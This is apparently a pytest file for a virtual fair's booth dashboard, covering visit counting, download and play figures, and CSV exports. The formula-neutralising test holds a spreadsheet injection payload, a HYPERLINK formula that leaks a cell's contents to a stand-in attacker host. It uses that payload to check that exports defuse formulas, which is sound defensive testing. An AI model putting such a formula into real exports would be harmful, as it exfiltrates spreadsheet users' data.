"""A booth's dashboard: visits and unique visitors per day, downloads and plays, the CSV export."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import httpx
from sqlalchemy import func, select

from fair.core.accounts.roles import Role
from fair.core.accounts.viewers import anonymous
from fair.core.db import Database
from fair.core.errors import FairError
from fair.core.tables import utcnow
from fair.hall import dashboard
from fair.hall.actions import visits
from fair.hall.channels import team_channel
from fair.hall.inputs import CardInput, ChatPost
from fair.hall.models import BoothVisit
from fair.hall.rules import MediaKind
from fair.hall.settings import HallSettings
from fair.hall.uploads import Storage
from tests.core.test_accounts_http import browser
from tests.support.factories import login_cookies, person
from tests.support.hall import MP4, PDF, booth, logged_events, someone, stored_media, viewer
from tests.support.servers import RunningServer

# Visits


def half_hour_start() -> datetime:
    """10:00 UTC today: the start of a half-hour, far from midnight, so looks a few minutes
    after it share its slot and its day."""
    return utcnow().replace(hour=10, minute=0, second=0, microsecond=0)


async def test_visits_and_unique_visitors_are_counted_per_day(db: Database) -> None:
    """Four looks by three people today (one of them twice in a half-hour: one visit), and
    one yesterday, make two day rows, newest first."""
    organiser = await someone(db, Role.ORGANISER)
    team_user = await person(db)
    made = await booth(db, organiser, team=[team_user])
    returning, once = await someone(db), await someone(db)
    start = half_hour_start()
    for minute, looker in enumerate((returning, returning, once, anonymous("a-browser"))):
        await visits.record_visit(db, looker, made.id, start + timedelta(minutes=minute))
    today = start
    async with db.transaction() as tx:
        # Yesterday's visit is written directly: the action always counts today.
        yesterday = today - timedelta(days=1)
        earlier = BoothVisit(
            booth_id=made.id, person=returning.person, day=yesterday.date(), at=yesterday
        )
        tx.session.add(earlier)
    board = await dashboard.dashboard(db, await viewer(db, team_user), made.id)
    assert [(d.day, d.visits, d.unique_visitors) for d in board.days] == [
        (today.date(), 3, 3),
        (yesterday.date(), 1, 1),
    ]


async def test_each_visit_tells_the_team_todays_totals(db: Database) -> None:
    """Every visit records hall.booth.visited on booth:<id>:team with today's running totals;
    a reload in the same half-hour records nothing, one in the next half-hour is a visit."""
    organiser = await someone(db, Role.ORGANISER)
    made = await booth(db, organiser)
    first, second = await someone(db), await someone(db)
    start = half_hour_start()
    looks = [(first, 1), (second, 2), (first, 3), (first, 31)]
    for looker, minutes in looks:
        await visits.record_visit(db, looker, made.id, start + timedelta(minutes=minutes))
    visited = [
        json.loads(e.data)
        for e in await logged_events(db, team_channel(made.id))
        if e.type == "hall.booth.visited"
    ]
    day = start.date().isoformat()
    assert visited == [
        {"booth_id": made.id, "day": day, "visits": 1, "unique_visitors": 1},
        {"booth_id": made.id, "day": day, "visits": 2, "unique_visitors": 2},
        {"booth_id": made.id, "day": day, "visits": 3, "unique_visitors": 2},
    ]


async def test_chat_messages_and_cards_are_counted_with_the_day(db: Database) -> None:
    """Today's row counts the chat messages written and the cards left at the booth."""
    organiser = await someone(db, Role.ORGANISER)
    team_user = await person(db)
    made = await booth(db, organiser, team=[team_user])
    visitor = await someone(db)
    await visits.record_visit(db, visitor, made.id)
    for body in ("Hello", "Anyone here?"):
        await visits.post_chat_message(db, visitor, ChatPost(booth_id=made.id, body=body))
    await visits.leave_card(db, visitor, made.id, CardInput(message="Let us talk"))
    board = await dashboard.dashboard(db, await viewer(db, team_user), made.id)
    [today] = board.days
    assert (today.visits, today.chat_messages, today.cards) == (1, 2, 1)


async def test_visit_to_a_draft_is_refused_and_not_counted(db: Database) -> None:
    """A participant cannot look at a draft, so their attempt adds no visit."""
    organiser = await someone(db, Role.ORGANISER)
    draft = await booth(db, organiser, published=False)
    participant = await someone(db)
    try:
        await visits.record_visit(db, participant, draft.id)
    except FairError as refusal:
        assert refusal.code == "hall.booth_not_found"
    else:
        raise AssertionError("the visit to a draft was recorded")
    assert (await dashboard.dashboard(db, organiser, draft.id)).days == []


# Downloads and plays, over HTTP


async def booth_with_files(
    server: RunningServer, document_title: str = "Report"
) -> tuple[int, int, int, dict[str, str]]:
    """A published booth with a document and an interview; its id, their ids, the team's login."""
    db = server.services.db
    team_user = await person(db)
    made = await booth(db, await someone(db, Role.ORGANISER), team=[team_user])
    team = await viewer(db, team_user)
    storage = Storage(server.services.settings.section(HallSettings).upload_path)
    doc = await stored_media(
        db, team, made.id, storage, MediaKind.DOCUMENT, PDF, title=document_title
    )
    interview = await stored_media(
        db, team, made.id, storage, MediaKind.INTERVIEW, MP4, title="Interview"
    )
    return made.id, doc.id, interview.id, await login_cookies(db, team_user)


async def media_figures(server: RunningServer, booth_id: int) -> dict[int, tuple[int, int]]:
    db = server.services.db
    board = await dashboard.dashboard(db, await someone(db, Role.ORGANISER), booth_id)
    return {m.media_id: (m.downloads, m.plays) for m in board.media}


async def test_fetching_a_document_counts_a_download(server: RunningServer) -> None:
    """A document fetched whole counts one download; a later range from the middle does not."""
    booth_id, doc, interview, _cookies = await booth_with_files(server)
    async with browser(server) as http:
        assert (await http.get(f"/media/{doc}")).status_code == 200
        middle = await http.get(f"/media/{doc}", headers={"range": "bytes=100-"})
        assert middle.status_code == 206
    assert await media_figures(server, booth_id) == {doc: (1, 0), interview: (0, 0)}
    used = (await logged_events(server.services.db, team_channel(booth_id)))[-1]
    assert (used.type, json.loads(used.data)) == (
        "hall.media.used",
        {"booth_id": booth_id, "media_id": doc, "kind": "download", "total": 1},
    )


async def test_starting_an_interview_counts_a_play(server: RunningServer) -> None:
    """An interview asked for from byte 0 counts a play; seeking further on does not."""
    booth_id, doc, interview, _cookies = await booth_with_files(server)
    async with browser(server) as http:
        start = await http.get(f"/media/{interview}", headers={"range": "bytes=0-"})
        assert start.status_code == 206
        assert start.content == MP4
        seek = await http.get(f"/media/{interview}", headers={"range": "bytes=200-"})
        assert seek.status_code == 206
        again = await http.get(f"/media/{interview}", headers={"range": "bytes=0-"})
        assert again.status_code == 206
    assert await media_figures(server, booth_id) == {doc: (0, 0), interview: (0, 2)}


# The CSV export


def csv_rows(body: bytes) -> list[list[str]]:
    """The rows of a CSV file, which must start with a byte order mark."""
    assert body.startswith("\ufeff".encode()), "spreadsheets need the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def test_each_table_of_the_dashboard_is_its_own_csv_file(server: RunningServer) -> None:
    """Two people look at the booth (one of them three times in a minute: one visit): the
    visits file has today's row, the countries file their country, the files file each
    file's downloads and plays; each a file of its own with a BOM."""
    booth_id, doc, _interview, cookies = await booth_with_files(server)
    db = server.services.db
    first, second = await someone(db), await someone(db)
    for looker in (first, first, first, second):
        await visits.record_visit(db, looker, booth_id)
    async with browser(server, cookies) as http:
        await http.get(f"/media/{doc}")
        visits_file = await http.get(f"/booths/{booth_id}/visits.csv")
        countries_file = await http.get(f"/booths/{booth_id}/countries.csv")
        files_file = await http.get(f"/booths/{booth_id}/files.csv")
        missing = await http.get(f"/booths/{booth_id}/secrets.csv")
    assert visits_file.status_code == 200
    assert visits_file.headers["content-type"] == "text/csv; charset=utf-8"
    assert visits_file.headers["content-disposition"].endswith('-visits.csv"')
    assert csv_rows(visits_file.content) == [
        ["Day", "Visits", "Unique visitors", "Chat messages", "Cards"],
        [utcnow().date().isoformat(), "2", "2", "0", "0"],
    ]
    assert csv_rows(countries_file.content) == [["Country", "Visitors"], ["Senegal", "2"]]
    assert csv_rows(files_file.content) == [
        ["File", "Kind", "Downloads", "Plays"],
        ["Report", "document", "1", "0"],
        ["Interview", "interview", "0", "0"],
    ]
    assert missing.status_code == 404


async def test_dashboard_csv_neutralises_formulas_in_titles(server: RunningServer) -> None:
    """A file title starting with '=' is exported with a leading quote, so it cannot run."""
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    booth_id, _doc, _interview, cookies = await booth_with_files(server, document_title=title)
    async with browser(server, cookies) as http:
        response = await http.get(f"/booths/{booth_id}/files.csv")
    files = csv_rows(response.content)[1:]
    assert files[0] == ["'" + title, "document", "0", "0"]


async def test_the_team_downloads_the_booths_chat_and_a_participant_gets_nothing(
    server: RunningServer,
) -> None:
    """The chat file lists each message with its author, oldest first, a formula defused; a
    participant asking for any of the booth's files gets 403 and no figures."""
    booth_id, _doc, _interview, cookies = await booth_with_files(server)
    db = server.services.db
    talker = await someone(db)
    from fair.hall.actions.visits import post_chat_message

    await post_chat_message(db, talker, ChatPost(booth_id=booth_id, body="Hello team"))
    await post_chat_message(db, talker, ChatPost(booth_id=booth_id, body="=1+1 is two"))
    async with browser(server, cookies) as http:
        chat = await http.get(f"/booths/{booth_id}/chat.csv")
    rows = csv_rows(chat.content)
    assert rows[0] == ["Written at (UTC)", "Author", "Message", "Removed at", "Why removed"]
    assert [row[2] for row in rows[1:]] == ["Hello team", "'=1+1 is two"]
    async with browser(server, await login_cookies(db, await person(db))) as http:
        for name in ("visits", "countries", "files", "chat"):
            response = await http.get(f"/booths/{booth_id}/{name}.csv")
            assert response.status_code == 403
            assert "Visitors" not in response.text


async def test_reloads_within_a_half_hour_are_one_visit(db: Database) -> None:
    """Looks at 10:00, 10:20 and 10:40 by one person are two visits (two half-hours)."""
    organiser = await someone(db, Role.ORGANISER)
    made = await booth(db, organiser)
    start = utcnow().replace(minute=0, second=0, microsecond=0)
    async with db.transaction() as tx:
        tx.session.add_all(
            BoothVisit(
                booth_id=made.id, person="u1", day=start.date(), at=start + timedelta(minutes=m)
            )
            for m in (0, 20, 40)
        )
    board = await dashboard.dashboard(db, organiser, made.id)
    assert (board.days[0].visits, board.days[0].unique_visitors) == (2, 1)


async def test_a_page_refreshing_its_sections_is_not_counted_as_a_visit(
    server: RunningServer,
) -> None:
    """The booth page's own re-reads after live changes (X-Fair-Refresh) record no visit."""
    db = server.services.db
    organiser = await someone(db, Role.ORGANISER)
    row = await booth(db, organiser)
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        assert (await http.get(f"/booths/{row.slug}")).status_code == 200
        refresh = await http.get(f"/booths/{row.slug}", headers={"X-Fair-Refresh": "sections"})
        assert refresh.status_code == 200
    async with db.reading() as session:
        count = await session.scalar(
            select(func.count(BoothVisit.id)).where(BoothVisit.booth_id == row.id)
        )
    assert count == 1
